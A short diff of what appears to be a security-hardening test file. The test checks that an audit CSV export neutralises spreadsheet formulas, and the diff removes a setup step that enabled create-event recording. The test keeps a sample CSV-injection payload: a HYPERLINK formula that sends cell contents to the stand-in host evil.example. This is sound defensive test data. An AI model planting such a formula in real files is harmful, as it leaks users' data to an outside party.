@@ -107,13 +107,6 @@ describe('hardening: the lows of the security review', () => {
 
   it('P-L2: the audit CSV export neutralises a formula in every text cell', async () => {
     const formula = '=HYPERLINK("https://evil.example/?leak="&B2&C2,"Open report")';
-    // The create's event carries the formula: the account records creates (a data event, off by default).
-    const on = await fetch(`${server.url}/v1/audit-events/settings`, {
-      method: 'PATCH',
-      headers: { authorization: `Bearer ${server.apiKey}`, 'content-type': 'application/json' },
-      body: JSON.stringify({ action_create: true }),
-    });
-    expect(on.status).toBe(200);
     const made = await fetch(`${server.url}/v1/actions`, {
       method: 'POST',
       headers: {
